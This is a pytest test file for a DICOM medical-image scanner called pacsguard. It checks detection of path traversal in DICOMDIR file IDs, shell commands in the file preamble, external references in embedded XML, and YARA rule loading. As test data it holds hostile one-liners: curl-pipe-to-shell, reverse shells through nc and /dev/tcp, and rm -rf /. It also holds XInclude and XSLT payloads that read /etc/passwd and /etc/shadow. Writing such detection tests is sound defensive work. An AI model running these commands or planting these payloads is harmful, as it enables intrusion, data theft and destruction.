"""Round 6 (issue #19, `pacsguard scan`): gaps earlier rounds left open, each confirmed with a built
sample first. DICOMDIR file IDs other than the Referenced File ID (PS3.10 8.5), a preamble of shell
commands with no "#!" line (PS3.10 7.1), XInclude and external stylesheets in encapsulated XML, a
transfer syntax reading that stops early (structure.transfer-syntax-confusion), and the
administrator's YARA rule directories."""

from __future__ import annotations

import io
import struct
import time
import warnings
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pydicom
import pytest
from pydicom.data import get_testdata_file
from pydicom.dataset import Dataset
from scan_samples import ct, pdf_document, quiet, rules
from test_round5_dicom import HEAD, confused, part10
from typer.testing import CliRunner

from pacsguard.cli import main
from pacsguard.scan.model import Level
from pacsguard.scan.scanner import Scanner
from pacsguard.scan.yara_engine import MATCH_LIMIT, YaraEngine, YaraError


@pytest.fixture(scope="module")
def plain() -> Scanner:
    """pacsguard's own rules, without YARA."""
    return Scanner()


# 1. Every file ID of a DICOMDIR (PS3.3 F.5; PS3.10 8.2, 8.5), not only the Referenced File ID.

def dicomdir(change: Callable[[Dataset], None]) -> bytes:
    ds = pydicom.dcmread(str(get_testdata_file("DICOMDIR")))
    change(ds)
    out = io.BytesIO()
    ds.save_as(out)
    return out.getvalue()


def descriptor(value: list[str]) -> Callable[[Dataset], None]:
    def change(ds: Dataset) -> None:
        ds.FileSetDescriptorFileID = value
    return change


def referenced(value: list[str]) -> Callable[[Dataset], None]:
    def change(ds: Dataset) -> None:
        next(r for r in ds.DirectoryRecordSequence if "ReferencedFileID" in r).ReferencedFileID = value
    return change


def file_set_id(value: str) -> Callable[[Dataset], None]:
    def change(ds: Dataset) -> None:
        ds.FileSetID = value
    return change


@pytest.mark.parametrize("change, tag", [
    (descriptor(["..", "..", "ETC", "PASSWD"]), "(0004,1141)"),
    (descriptor(["C:", "WINDOWS", "WIN.INI"]), "(0004,1141)"),
    (descriptor(["", "ETC", "PASSWD"]), "(0004,1141)"),
    (referenced(["CON"]), "(0004,1500)"),
    (referenced(["DIR", "NUL.TXT"]), "(0004,1500)"),
    (referenced(["LPT1"]), "(0004,1500)"),
    (referenced(["...", "X"]), "(0004,1500)"),
    (referenced(["..\x00A", "X"]), "(0004,1500)"),
    (file_set_id("../../X"), "(0004,1130)"),
], ids=["descriptor-climbs", "descriptor-drive", "descriptor-root", "device-con", "device-nul-ext", "device-lpt",
        "three-dots", "nul-cut", "file-set-id"])
def test_every_dicomdir_file_id_that_leaves_the_media_is_high(change: Callable[[Dataset], None], tag: str,
                                                              plain: Scanner) -> None:
    report = plain.scan_bytes(quiet(lambda: dicomdir(change)), "DICOMDIR")
    hits = [f for f in report.findings if f.rule == "structure.fileid-traversal"]
    assert hits and hits[0].level == Level.HIGH and hits[0].tag == tag, report.findings


def test_file_ids_inside_the_media_are_clean(plain: Scanner) -> None:
    """Names that only start like a device or a drive are file names (COM10, CONFIG, NULLS)."""
    for change in (descriptor(["README"]), referenced(["CONFIG", "COM10", "NULLS"]), lambda ds: None):
        report = plain.scan_bytes(quiet(partial(dicomdir, change)), "DICOMDIR")
        assert "structure.fileid-traversal" not in rules(report), report.findings


# 2. Shell commands in the preamble without a "#!" line (PS3.10 7.1).

COMMANDS = [b"curl http://x/a|sh;", b"wget http://203.0.113.9/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
            b"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", b"   curl -s http://evil.example/p | bash  ",
            b"\0\0\0\0nc -e /bin/sh 203.0.113.9 4444;", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            b"certutil -urlcache -f http://x/a a.exe", b"rm -rf / --no-preserve-root;"]


@pytest.mark.parametrize("pad", [b" ", b"\0"], ids=["spaces", "nuls"])
@pytest.mark.parametrize("text", COMMANDS, ids=[c.strip(b"\0 ").split()[0].decode() for c in COMMANDS])
def test_shell_commands_in_the_preamble_are_high_without_a_shebang(text: bytes, pad: bytes, plain: Scanner) -> None:
    report = plain.scan_bytes(part10(HEAD, preamble=text.ljust(128, pad)), "p.dcm")
    hits = [f for f in report.findings if f.rule == "preamble.script"]
    assert hits and hits[0].level == Level.HIGH, report.findings


@pytest.mark.parametrize("text", [b"Created by ACME Viewer 3.2 (c) 2019", b"written by dcm4che - see https://dcm4che.org",
                                  b"ISO_IR 100 Philips Medical Systems", b"This file was exported; do not edit",
                                  b"curl is the tool we used", b"Python export tool v2 -- options"])
def test_a_vendors_text_in_the_preamble_stays_a_note(text: bytes, plain: Scanner) -> None:
    report = plain.scan_bytes(part10(HEAD, preamble=text.ljust(128, b"\0")), "p.dcm")
    assert rules(report) == {"preamble.nonzero": Level.INFO}, report.findings


# 3. XInclude, external stylesheets and document() in encapsulated XML (judged like XXE).

XML = b'<?xml version="1.0"?>\n'
XSLT = b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
EXTERNAL = {
    "xinclude": b'<ClinicalDocument xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" '
                b'parse="text"/></ClinicalDocument>',
    "xinclude-other-prefix": b'<ClinicalDocument xmlns:q="http://www.w3.org/2001/XInclude"><q:include '
                             b'href="http://203.0.113.9/x"/></ClinicalDocument>',
    "xinclude-default": b'<ClinicalDocument><include xmlns="http://www.w3.org/2001/XInclude" href="secret.txt" '
                        b'parse="text"/></ClinicalDocument>',
    "xinclude-charref": b'<a xmlns:z="&#x68;ttp://www.w3.org/2001/XInclude"><z:include href="x"/></a>',
    "xinclude-attlist": b'<!DOCTYPE a [<!ATTLIST a xmlns:xi CDATA #FIXED "http://www.w3.org/2001/XInclude">]>'
                        b'<a><xi:include href="x"/></a>',
    "stylesheet": b'<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/cda.xsl"?><ClinicalDocument/>',
    "stylesheet-unc": b'<?xml-stylesheet type="text/xsl" href="\\\\host\\share\\cda.xsl"?><ClinicalDocument/>',
    "xsl-include": b"<xsl:stylesheet " + XSLT + b'><xsl:include href="http://203.0.113.9/x.xsl"/></xsl:stylesheet>',
    "xsl-import": b"<xsl:stylesheet " + XSLT + b'><xsl:import href="../../x.xsl"/></xsl:stylesheet>',
    "document": b"<xsl:stylesheet " + XSLT + b'><xsl:template match="/"><xsl:value-of '
                b"select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet>",
    "unparsed-text": b"<xsl:stylesheet " + XSLT + b' version="2.0"><xsl:value-of '
                     b"select=\"unparsed-text('/etc/shadow')\"/></xsl:stylesheet>",
}


@pytest.mark.parametrize("name", list(EXTERNAL))
def test_external_references_in_encapsulated_xml_are_high(name: str, plain: Scanner) -> None:
    report = plain.scan_bytes(quiet(lambda: pdf_document(XML + EXTERNAL[name], "text/xml")), "x.dcm")
    assert rules(report).get("documents.xml-external-reference") == Level.HIGH, report.findings
    hit = next(f for f in report.findings if f.rule == "documents.xml-external-reference")
    assert hit.tag == "(0042,0011)" and hit.offset is not None


def test_the_builtin_yara_rule_finds_xinclude(scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(lambda: pdf_document(XML + EXTERNAL["xinclude"], "text/xml")), "x.dcm")
    assert rules(report).get("yara.pacsguard_xml_xinclude") == Level.HIGH, report.findings


@pytest.mark.parametrize("body, expected", [
    (b'<?xml-stylesheet type="text/xsl" href="CDA.xsl"?><ClinicalDocument/>', {"documents.xml-stylesheet"}),
    (b'<ClinicalDocument xmlns="urn:hl7-org:v3"><text>the document (attached), doc(1)</text></ClinicalDocument>',
     set()),
    (b'<a><xi:include href="x"/></a>', set()),  # no XInclude namespace: an element like any other
    (b"<xsl:stylesheet " + XSLT + b'><xsl:variable name="v" select="document(\'\')"/>'
     b'<xsl:include href="common.xsl"/></xsl:stylesheet>', set()),
], ids=["local-stylesheet", "narrative", "no-namespace", "same-document"])
def test_local_references_are_not_external(body: bytes, expected: set[str], plain: Scanner) -> None:
    report = plain.scan_bytes(quiet(lambda: pdf_document(XML + body, "text/xml")), "x.dcm")
    assert {f.rule for f in report.findings if f.level > Level.INFO} == expected, report.findings


def test_unclosed_openings_cost_a_bounded_search(plain: Scanner) -> None:
    body = (b'<a xmlns:xi="http://www.w3.org/2001/XInclude" ' + XSLT + b">" + b"<?xml-stylesheet " * 200_000
            + b"<xi:include " * 200_000)
    started = time.perf_counter()
    report = plain.scan_bytes(quiet(lambda: pdf_document(XML + body, "text/xml")), "x.dcm")
    assert time.perf_counter() - started < 10 and "documents.xml-external-reference" in rules(report)


# 4. The transfer syntax's reading judged for what it read, even when it stops early.

@pytest.mark.parametrize("tail", [b"\x01\x02\x03", struct.pack("<HHI", 0x0008, 0x0020, 0x7FFFFFF0) + b"xx"],
                         ids=["stray-bytes", "lying-length"])
def test_what_the_stated_reading_read_before_it_stops_is_judged(tail: bytes, plain: Scanner) -> None:
    found = rules(plain.scan_bytes(confused(tail), "c.dcm"))
    assert found.get("structure.uid-path-traversal") == Level.HIGH, found
    assert found.get("structure.transfer-syntax-confusion") == Level.LOW, found


def test_a_stated_reading_to_the_end_is_still_high(plain: Scanner) -> None:
    found = rules(plain.scan_bytes(confused(b""), "c.dcm"))
    assert found.get("structure.transfer-syntax-confusion") == Level.HIGH
    assert found.get("structure.uid-path-traversal") == Level.HIGH


def test_a_writers_wrong_transfer_syntax_gives_no_more_than_before(plain: Scanner) -> None:
    """pydicom's SC_rgb_jpeg.dcm: its meta names explicit VR, its data set is implicit."""
    report = plain.scan_file(Path(str(get_testdata_file("SC_rgb_jpeg.dcm"))))
    assert rules(report) == {"structure.vr-encoding": Level.LOW}, report.findings


# 5. The administrator's YARA rule directories: nothing dropped without a word.

def rule_dir(tmp_path: Path, files: dict[str, str]) -> Path:
    folder = tmp_path / "rules"
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    folder.mkdir(exist_ok=True)
    return folder


def test_a_module_not_compiled_in_is_named_with_file_and_line(tmp_path: Path) -> None:
    magic = '// site rules\nimport "magic"\nrule m { condition: magic.mime_type() == "x" }\n'
    folder = rule_dir(tmp_path, {"ok.yar": "rule ok { condition: true }\n", "m.yar": magic})
    with pytest.raises(YaraError) as raised:
        YaraEngine.compile([folder])
    assert f"{folder / 'm.yar'}: line 2: module \"magic\" is not compiled" in str(raised.value)


def test_an_empty_rule_directory_stops_the_scan(tmp_path: Path) -> None:
    folder = rule_dir(tmp_path, {})
    with pytest.raises(YaraError, match="no .yar or .yara rule file"):
        YaraEngine.compile([folder])
    (tmp_path / "x.dcm").write_bytes(quiet(ct))
    result = CliRunner().invoke(main.app, ["scan", "--yara-dir", str(folder), str(tmp_path / "x.dcm")])
    assert result.exit_code == 2 and str(folder) in result.output and "Traceback" not in result.output


def test_rules_under_another_name_are_named_not_dropped(tmp_path: Path) -> None:
    folder = rule_dir(tmp_path, {"ok.yar": "rule ok { condition: true }\n", "README.md": "Site rules. See ok.yar.\n",
                                 "more.txt": "// copied from the vendor\n\nrule vendor_marker { condition: true }\n"})
    with pytest.raises(YaraError) as raised:
        YaraEngine.compile([folder])
    assert f"{folder / 'more.txt'}: line 3: holds YARA rules" in str(raised.value)
    (folder / "more.txt").rename(folder / "more.txt.disabled")  # the administrator's way to leave it out
    (folder / "UPPER.YAR").write_text("rule upper { condition: true }\n")  # a rule file in any case
    (folder / "ok.yar.bak").write_text("rule old { condition: true }\n")
    engine = YaraEngine.compile([folder], builtin=False)
    assert {r.identifier for r in engine.rules} >= {"ok", "upper"} and "old" not in {r.identifier for r in engine.rules}


def test_a_subfolder_of_rules_is_named_unless_included(tmp_path: Path) -> None:
    folder = rule_dir(tmp_path, {"top.yar": "rule top { condition: true }\n",
                                 "lib/a.yar": 'include "b.yar"\nrule a_r { condition: true }\n',
                                 "lib/b.yar": "rule b_r { condition: true }\n"})
    with pytest.raises(YaraError, match="subfolder"):
        YaraEngine.compile([folder])
    # A rule set split in files: includes read relative to the file that says them, as `yara` does.
    (folder / "top.yar").write_text('include "lib/a.yar"\nrule top { condition: a_r and b_r }\n')
    engine = YaraEngine.compile([folder], builtin=False)
    assert {"top", "a_r", "b_r"} <= {r.identifier for r in engine.rules}


def test_compiled_rules_are_named(tmp_path: Path) -> None:
    folder = rule_dir(tmp_path, {})
    (folder / "c.yar").write_bytes(b"YARA\x0b\x00\x00\x00" + bytes(64))
    with pytest.raises(YaraError, match="compiled rules"):
        YaraEngine.compile([folder])


def test_a_rule_past_the_match_limit_is_reported_at_its_level(tmp_path: Path) -> None:
    folder = rule_dir(tmp_path, {"flood.yar": 'rule counted { meta: level = "high" strings: $z = { 00 00 } '
                                              "condition: #z > 1500000 }\n"
                                              'rule present { meta: level = "high" strings: $y = { 00 00 00 } '
                                              "condition: $y }\n"})
    engine = YaraEngine.compile([folder], builtin=False)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # never a raw warning
        found = engine.match(bytes(MATCH_LIMIT * 2))
    levels = {(f.rule, "counted" in f.explanation): f.level for f in found}
    assert levels.get(("yara.present", False)) == Level.HIGH, found  # matched: reported as such
    assert levels.get(("yara.too-many-matches", True)) == Level.HIGH, found  # not judged: the rule's level


def test_a_matched_rules_note_hides_no_other_rules_note(tmp_path: Path) -> None:
    """Through the scanner, which keeps one finding per YARA rule: the low note of a rule that
    matched (sorted first) and the high note of one YARA could not judge are both reported."""
    folder = rule_dir(tmp_path, {"flood.yar": 'rule a_present { strings: $y = { 00 00 00 } condition: $y }\n'
                                              'rule b_counted { meta: level = "high" strings: $z = { 00 00 } '
                                              "condition: #z > 1500000 }\n"})
    scanner = Scanner(yara=YaraEngine.compile([folder], builtin=False))
    report = scanner.scan_bytes(quiet(ct) + bytes(MATCH_LIMIT * 2), "z.dcm")
    notes = {f.explanation.split(" of rule ")[1].split()[0]: f.level for f in report.findings
             if f.rule == "yara.too-many-matches"}
    assert notes.get("a_present") == Level.LOW and notes.get("b_counted") == Level.HIGH, report.findings
